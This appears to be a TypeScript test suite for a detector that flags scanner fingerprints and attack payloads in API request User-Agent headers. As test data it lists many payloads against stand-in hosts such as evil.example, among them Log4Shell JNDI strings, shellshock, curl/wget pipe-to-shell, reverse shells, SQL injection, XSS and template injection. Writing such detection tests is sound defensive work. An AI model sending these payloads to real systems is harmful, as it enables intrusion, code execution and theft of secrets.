import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import { makeEndpoint, type RequestEvent } from '../../../shared/core/requestEvent';
import { cutText, DEFAULT_MAX_OBSERVED_LENGTH, SuspiciousUserAgentDetector } from '../../../shared/core/detectors/suspiciousUserAgent';
import { collapseLookups, normalizeUserAgent, UserAgentMatcher, type UserAgentCategory } from '../../../shared/core/detectors/userAgentPatterns';

const ENDPOINT = makeEndpoint({ service: 'contoso-apim', apiId: 'orders', operationId: 'get-order', pathTemplate: '' });
const TIME = Date.parse('2026-08-23T10:00:00Z');

function event(userAgent: string | undefined): RequestEvent {
  const base: RequestEvent = {
    time: TIME,
    clientIp: '203.0.113.9',
    callerIp: '203.0.113.9',
    method: 'GET',
    endpoint: ENDPOINT,
    path: '/orders/42',
    status: 200,
    requestSize: 0,
    requestSizeSource: 'totalBytes',
    responseSize: 300,
    responseSizeSource: 'totalBytes',
    latencyMs: 8,
    params: [],
    format: 'policyLog',
    source: { partitionId: '3', sequenceNumber: 77, offset: '1024', recordIndex: 2 },
  };
  return userAgent === undefined ? base : { ...base, userAgent };
}

const matcher = new UserAgentMatcher();
function category(userAgent: string, m: UserAgentMatcher = matcher): UserAgentCategory | undefined {
  return m.match(userAgent)?.category;
}

/** Benign User-Agents of API clients that must never be flagged with the default options. */
const BENIGN = [
  'MyShop/5.2.1 (iPhone; iOS 17.4; Scale/3.00)',
  'azsdk-js-data-tables/13.3.2 core-rest-pipeline/1.19.0 Node/20.11.1 OS/(x64-Linux)',
  'azsdk-net-Storage.Blobs/12.19.1 (.NET 8.0.2; Microsoft Windows 10.0.22631)',
  'azsdk-python-identity/1.15.0 Python/3.11.7 (Linux-5.15.0-1057-azure-x86_64-with-glibc2.35)',
  'okhttp/4.12.0',
  'Dart/3.3 (dart:io)',
  'PostmanRuntime/7.37.3',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 6.3; Trident/7.0; Touch; rv:11.0) like Gecko',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/460.0.0.48.109;FBBV/577187286]',
  'My%20App/1.0 CFNetwork/1404.0.5 Darwin/22.3.0',
  'Contoso.Orders.Client/2.3 (JavaScript; +https://contoso.example/bot)',
  'ScriptRunner/1.0 (JavaScript engine; Postman)',
  'Apache-HttpClient/4.5.14 (Java/17.0.10)',
  'Java/17.0.10',
  'Go-http-client/2.0',
  'python-requests/2.31.0',
  'curl/8.6.0',
  'Wget/1.21.4',
  'Ruby',
  'node',
  'axios/1.6.8',
  'Googlebot/2.1 (+http://www.google.com/bot.html)',
  'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17425; Pro)',
  'Chef Client/18.4.12 (ruby-3.1.4-p223; ohai-18.1.11; x86_64-linux; +https://chef.io)',
  'ansible-httpget',
  'Docker-Client/24.0.7 (linux)',
  'kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819',
  'Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; ARM; Trident/6.0; Touch)',
  'Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)',
  'Snap URL Preview Service; bot; snapchat; https://developers.snap.com/robots',
  'Set-Top-Box/2.0 (Linux; Tizen 6.0) SmartTV',
  'Time Machine/1.0',
  'Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Démo-Appli/1.0 (Android 14; 日本語; ✓)',
  'MozillaVPN/2.21.0 (sys:windows 10.0)',
  '{{appName}}/{{version}}',
  '${APP_NAME}/1.0',
];

describe('SuspiciousUserAgentDetector', () => {
  test('raises one finding with the alert fields for a scanner', () => {
    const detector = new SuspiciousUserAgentDetector();
    const ev = event('sqlmap/1.8.2#stable (https://sqlmap.org)');
    const findings = detector.detect(ev);
    assert.equal(findings.length, 1);
    const [finding] = findings;
    assert.ok(finding);
    assert.equal(finding.alertType, 'API_AccessFromSuspiciousUserAgent');
    assert.equal(finding.time, TIME);
    assert.equal(finding.endTime, TIME);
    assert.deepEqual(finding.entities, { clientIp: '203.0.113.9', endpoint: ENDPOINT, userAgent: ev.userAgent, status: ev.status });
    assert.equal(finding.observed, ev.userAgent);
    assert.equal(finding.score, 1);
    assert.equal(finding.evidence.category, 'scanner');
    assert.equal(finding.evidence.matched, 'sqlmap');
    assert.deepEqual(finding.source, ev.source);
    assert.equal(finding.baseline, undefined);
  });

  test('scores payloads 2 and tool fingerprints 1', () => {
    const detector = new SuspiciousUserAgentDetector();
    assert.equal(detector.detect(event('${jndi:ldap://evil.example/a}'))[0]?.score, 2);
    assert.equal(detector.detect(event('() { :; }; /bin/bash -c "id"'))[0]?.score, 2);
    assert.equal(detector.detect(event('Nikto/2.5.0'))[0]?.score, 1);
  });

  test('no User-Agent or an empty one: no finding', () => {
    const detector = new SuspiciousUserAgentDetector();
    assert.deepEqual(detector.detect(event(undefined)), []);
    assert.deepEqual(detector.detect(event('')), []);
  });

  test("Defender's validation User-Agent 'javascript:' is flagged", () => {
    const findings = new SuspiciousUserAgentDetector().detect(event('javascript:'));
    assert.equal(findings.length, 1);
    assert.equal(findings[0]?.evidence.category, 'xss');
  });

  test('benign API clients, SDKs, apps and browsers are not flagged', () => {
    const detector = new SuspiciousUserAgentDetector();
    for (const ua of BENIGN) assert.deepEqual(detector.detect(event(ua)), [], ua);
  });

  test('scripting clients are flagged only when the option asks for it', () => {
    const strict = new SuspiciousUserAgentDetector({ flagScriptingClients: true });
    for (const ua of ['curl/8.6.0', 'python-requests/2.31.0', 'Go-http-client/2.0', 'Wget/1.21.4', 'libwww-perl/6.72', 'Mozilla/4.0 (compatible)']) {
      const [finding] = strict.detect(event(ua));
      assert.equal(finding?.evidence.category, 'scripting_client', ua);
      assert.equal(finding?.score, 1);
    }
    for (const ua of ['okhttp/4.12.0', 'Dart/3.3 (dart:io)', 'PostmanRuntime/7.37.3', 'MyShop/5.2.1 (iPhone; iOS 17.4; Scale/3.00)']) {
      assert.deepEqual(strict.detect(event(ua)), [], ua);
    }
  });

  test('allowSubstrings silences the team’s own tools', () => {
    const detector = new SuspiciousUserAgentDetector({ allowSubstrings: ['Contoso-SecOps'] });
    assert.deepEqual(detector.detect(event('Nuclei - Open-source project (github.com/projectdiscovery/nuclei) contoso-secops')), []);
    assert.equal(detector.detect(event('Nuclei - Open-source project (github.com/projectdiscovery/nuclei)')).length, 1);
  });

  test('extraScannerTokens adds site-specific tools', () => {
    const detector = new SuspiciousUserAgentDetector({ extraScannerTokens: ['EvilCrawler'] });
    assert.equal(detector.detect(event('evilcrawler/0.1'))[0]?.evidence.category, 'scanner');
    assert.deepEqual(new SuspiciousUserAgentDetector().detect(event('evilcrawler/0.1')), []);
  });

  test('a very long User-Agent is cut in the finding and analyzed fast', () => {
    const detector = new SuspiciousUserAgentDetector();
    const long = `Mozilla/5.0 ${'A'.repeat(20_000)} \${jndi:ldap://x/a}`;
    const started = process.hrtime.bigint();
    const findings = detector.detect(event(long));
    const ms = Number(process.hrtime.bigint() - started) / 1e6;
    assert.ok(ms < 200, `took ${ms} ms`);
    assert.equal(findings.length, 1);
    // The payload sits past the analyzed prefix; the length alone flags it.
    assert.equal(findings[0]?.evidence.category, 'oversized');
    assert.equal(findings[0]?.evidence.userAgentLength, long.length);
    const observed = findings[0]?.observed;
    assert.equal(typeof observed, 'string');
    assert.equal((observed as string).length, DEFAULT_MAX_OBSERVED_LENGTH);
    assert.ok((observed as string).endsWith('…'));
    assert.equal(findings[0]?.entities.userAgent, observed);
  });

  test('oversized can be turned off, and a payload in a long header is still found', () => {
    const quiet = new SuspiciousUserAgentDetector({ oversizedLength: 0 });
    assert.deepEqual(quiet.detect(event(`Mozilla/5.0 ${'A'.repeat(20_000)}`)), []);
    const [finding] = quiet.detect(event(`Mozilla/5.0 ${'A'.repeat(5_000)} <script>alert(1)</script>`));
    assert.equal(finding?.evidence.category, 'xss');
  });

  test('cutText keeps surrogate pairs whole', () => {
    assert.equal(cutText('abc', 5), 'abc');
    assert.equal(cutText('abcdef', 4), 'abc…');
    const emoji = 'ab😀cd';
    assert.equal(cutText(emoji, 4), 'ab…');
  });
});

describe('UserAgentMatcher categories', () => {
  const cases: Array<[string, UserAgentCategory]> = [
    // scanners, any case
    ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'scanner'],
    ['NIKTO/2.1.6', 'scanner'],
    ['Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'scanner'],
    ['masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'scanner'],
    ['Mozilla/5.0 zgrab/0.x', 'scanner'],
    ['WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)', 'scanner'],
    ['gobuster/3.6', 'scanner'],
    ['Fuzz Faster U Fool v2.1.0-dev', 'scanner'],
    ['DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)', 'scanner'],
    ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) Acunetix-Product', 'scanner'],
    ['Mozilla/5.0 (compatible; Netsparker)', 'scanner'],
    ['feroxbuster/2.10.2', 'scanner'],
    ['Mozilla/5.0 SF/2.10b', 'scanner'],
    ['Mozilla/4.0 (Hydra)', 'scanner'],
    ['TsunamiSecurityScanner', 'scanner'],
    ['xmlrpc exploit', 'scanner'],
    // out-of-band interaction domains
    ['Mozilla/5.0 abc123.oastify.com', 'oob_callback'],
    ['x.burpcollaborator.net', 'oob_callback'],
    ['c58kfl2.oast.fun', 'oob_callback'],
    // Log4Shell, plain and obfuscated
    ['${jndi:ldap://evil.example:1389/a}', 'jndi'],
    ['${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}', 'jndi'],
    ['${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}', 'jndi'],
    ['${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}', 'jndi'],
    ['${j${k8s:k5:-ND}i:ldap://evil.example/a}', 'jndi'],
    ['${${upper:j}ndi:dns://evil.example}', 'jndi'],
    ['%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D', 'jndi'],
    ['&#x24;&#123;jndi:rmi://evil.example/a}', 'jndi'],
    ['＄｛jndi:ldap://evil.example/a｝', 'jndi'],
    ['Mozilla/5.0 ${jNdI:LdAp://evil.example/a}', 'jndi'],
    // shellshock and shell
    ['() { :; }; echo; /bin/bash -c "cat /etc/passwd"', 'shellshock'],
    ['() { ignored; }; /usr/bin/id', 'shellshock'],
    ['Mozilla/5.0 () { :; }; echo; echo vulnerable', 'shellshock'],
    ['() { _; } >_[$($())] { echo; /bin/id; }', 'shellshock'],
    ['Mozilla/5.0 (Windows NT 10.0) | nslookup x.example.com', 'command_injection'],
    ["x'||pg_sleep(10)--", 'sql_injection'],
    ["1;waitfor delay '0:0:5'--", 'sql_injection'],
    ['<!--#exec cmd="ls"-->', 'xss'],
    ['"><svg/onload=alert()>', 'xss'],
    ['%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd="id")}', 'template_injection'],
    ['${jndi:dns://${hostName}.x.example}', 'jndi'],
    ['${${lower:${lower:jn}}${lower:${lower:di}}:ldap://x/a}', 'jndi'],
    ['Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)', 'scanner'],
    ['f(){ f|f& };f', 'command_injection'],
    ['Mozilla/5.0; curl http://evil.example/x.sh | sh', 'command_injection'],
    ['Mozilla/5.0 `id`', 'command_injection'],
    ['Mozilla/5.0 $(whoami)', 'command_injection'],
    ['Mozilla/5.0 && cat /etc/passwd', 'command_injection'],
    ['Mozilla/5.0 || ping -c 3 10.0.0.1', 'command_injection'],
    [';id', 'command_injection'],
    ['x; wget -q -O- http://evil.example/a | bash', 'command_injection'],
    ['/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'command_injection'],
    ['nc -e /bin/sh 10.0.0.1 4444', 'command_injection'],
    ['cat${IFS}/etc/passwd', 'command_injection'],
    ['whoami', 'shell_command'],
    ['uname -a', 'shell_command'],
    ['env --version', 'shell_command'],
    ['set -o history', 'shell_command'],
    ['time ifconfig', 'shell_command'],
    ['ansible all -m ping', 'shell_command'],
    ['chef report nodes', 'shell_command'],
    // server-side code and templates
    ['<?php system($_GET["c"]); ?>', 'code_injection'],
    ['Mozilla/5.0 system("id")', 'code_injection'],
    ["Mozilla/5.0 #{T(java.lang.Runtime).getRuntime().exec('id')}", 'code_injection'],
    ["%{(#_memberAccess['allowStaticMethodAccess']=true)}", 'code_injection'],
    ["{{''.__class__.__mro__[1].__subclasses__()}}", 'code_injection'],
    ['{{7*7}}', 'template_injection'],
    ['${7*7}', 'template_injection'],
    ['#{7*7}', 'template_injection'],
    ['<%= 7*7 %>', 'template_injection'],
    ['{{config}}', 'template_injection'],
    ['${env:AWS_SECRET_ACCESS_KEY}', 'template_injection'],
    ['rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ', 'deserialization'],
    ['O:8:"stdClass":1:{s:1:"a";s:1:"b";}', 'deserialization'],
    ['!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]', 'deserialization'],
    // SQL, XSS, traversal, files
    ["' OR '1'='1", 'sql_injection'],
    ['Mozilla/5.0" AND 1=1 --', 'sql_injection'],
    ["1' AND SLEEP(5)#", 'sql_injection'],
    ['Mozilla/5.0 UNION ALL SELECT NULL,@@version--', 'sql_injection'],
    ["'; DROP TABLE users; --", 'sql_injection'],
    ['<script>alert(1)</script>', 'xss'],
    ['<ScRiPt >alert(document.cookie)</ScRiPt>', 'xss'],
    ['Mozilla/5.0 <img src=x onerror=alert(1)>', 'xss'],
    ['JaVaScRiPt:alert(1)', 'xss'],
    ['%3Csvg%2Fonload%3Dalert(1)%3E', 'xss'],
    ['Mozilla/5.0 ../../../../etc/hosts', 'path_traversal'],
    ['..\\..\\windows\\win.ini', 'path_traversal'],
    ['/etc/shadow', 'sensitive_file'],
    ['cat /proc/self/environ', 'sensitive_file'],
    // header oddities
    ['Mozilla/5.0\r\nX-Injected: 1', 'header_injection'],
    ['Mozilla/5.0%0d%0aSet-Cookie: a=b', 'header_injection'],
    ['Mozilla/5.0\u0000', 'control_characters'],
    ['Mozlila/5.0 (Windows NT 10.0)', 'malformed'],
    ['Mozilla/5.g (Windows NT 10.0)', 'malformed'],
    ['User-Agent: Mozilla/5.0 (Windows NT 10.0)', 'malformed'],
  ];
  for (const [ua, expected] of cases) {
    test(`${JSON.stringify(ua)} → ${expected}`, () => {
      assert.equal(category(ua), expected);
    });
  }

  test('evidence excerpts are short and decoding is reported', () => {
    const match = matcher.match('&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.om/w}');
    assert.equal(match?.category, 'jndi');
    assert.equal(match?.decoded, true);
    assert.ok((match?.matched.length ?? 0) <= 80);
    assert.ok(match?.matched.startsWith('${jndi:ldap://'));
    const long = matcher.match(`<script>${'a'.repeat(500)}</script>`);
    assert.ok((long?.matched.length ?? 0) <= 80);
  });

  test('benign words that contain attack words stay clean', () => {
    for (const ua of ['JavaScriptCore/1.0', 'Transcript/1.0', 'Postman', 'Selection/1.0 (Union Bank app)', 'MyApp/1.0 (settings; environment; performance)', 'Catalina/9.0', 'Identity/3.0', 'Scanner-Free-App/2.0']) {
      assert.equal(category(ua), undefined, ua);
    }
  });

  test('normalization decodes percent, references and backslash escapes, and folds width and case', () => {
    assert.equal(normalizeUserAgent('%3Cscript%3E'), '<script>');
    assert.equal(normalizeUserAgent('%253Cscript%253E'), '<script>');
    assert.equal(normalizeUserAgent('&lt;script&gt;'), '<script>');
    assert.equal(normalizeUserAgent('\\x3cscript\\u003e'), '<script>');
    assert.equal(normalizeUserAgent('ＡＢＣ'), 'abc');
    assert.equal(normalizeUserAgent('&#99999999999;'), '&#99999999999;');
  });

  test('collapseLookups resolves the pieces of an obfuscated jndi', () => {
    assert.equal(collapseLookups('${${lower:j}${upper:n}${::-d}${env:x:-i}:}'), '${jndi:}');
    assert.equal(collapseLookups("${date:'j'}"), 'j');
    assert.equal(collapseLookups('${hostname}'), '${hostname}');
  });

  test('adversarial inputs stay fast', () => {
    const inputs = [
      '${'.repeat(10_000),
      '{{'.repeat(10_000),
      '#{'.repeat(10_000),
      "'".repeat(20_000),
      "' or ".repeat(5_000),
      '<a '.repeat(10_000),
      ';'.repeat(20_000),
      '%25'.repeat(10_000),
      '&#0000000000000000000000'.repeat(1_000),
      'union/**/'.repeat(3_000),
      '() {'.repeat(5_000),
      '../'.repeat(10_000),
      `${'a'.repeat(8_000)}!`,
    ];
    const loose = new UserAgentMatcher({ oversizedLength: 0 });
    for (const input of inputs) {
      const started = process.hrtime.bigint();
      loose.match(input);
      const ms = Number(process.hrtime.bigint() - started) / 1e6;
      assert.ok(ms < 250, `${JSON.stringify(input.slice(0, 20))}… took ${ms} ms`);
    }
  });

  test('never throws on arbitrary strings', async () => {
    const fc = await import('fast-check');
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (ua) => {
        const result = matcher.match(ua);
        return result === undefined || typeof result.category === 'string';
      }),
      { numRuns: 2000 },
    );
  });
});
